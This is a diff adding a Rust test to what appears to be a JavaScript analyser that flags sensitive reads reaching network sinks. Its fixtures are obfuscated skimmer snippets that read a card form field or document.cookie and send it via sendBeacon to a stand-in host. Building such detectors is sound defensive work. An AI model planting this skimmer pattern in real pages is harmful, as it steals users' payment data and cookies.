@@ -165,6 +165,36 @@ fn sensitive_reads_reaching_network_sinks_are_flows() {
     );
 }
 
+/// The string arrays are learned during the same walk that reads the code, so code that runs
+/// before the array is declared (a hoisted `var`, a function defined above it) or an array
+/// declared twice must still read the final array: the walk is repeated when it matters.
+#[test]
+fn a_string_array_declared_after_its_use_still_resolves() {
+    let later = r##"function steal() {
+          var v = document[_0x9a[1]](_0x9a[3])[_0x9a[0]];
+          navigator[_0x9a[2]]("https://x.example.net/c", v);
+        }
+        document.addEventListener("submit", steal);
+        var _0x9a = ["value", "querySelector", "sendBeacon", "#cc"];"##;
+    let a = analyze(later, &Options::default());
+    assert_eq!(
+        a.flows.iter().collect::<Vec<_>>(),
+        ["read:form-fields -> network:beacon"]
+    );
+    let caps: Vec<&str> = a.capabilities.iter().map(|c| c.name()).collect();
+    assert!(caps.contains(&"network:beacon"), "{caps:?}");
+    assert!(caps.contains(&"read:form-fields"), "{caps:?}");
+    // Declared twice: the second array is the one every use reads (as `var` hoisting has it).
+    let twice = r##"var _0x1 = ["log", "warn"]; function go(u) { navigator[_0x1[0]](u, document[_0x1[1]]); }
+        var _0x1 = ["sendBeacon", "cookie"];"##;
+    let caps: Vec<&str> = analyze(twice, &Options::default())
+        .capabilities
+        .iter()
+        .map(|c| c.name())
+        .collect();
+    assert_eq!(caps, ["network:beacon", "read:cookie"]);
+}
+
 /// The structural hash is stored with every script version and compared across releases of
 /// Rampart: a change to how it is computed would alert on every script of every site. This pins
 /// its value for one script (computed before the stream/hash rewrite of 2026-12-04 and unchanged
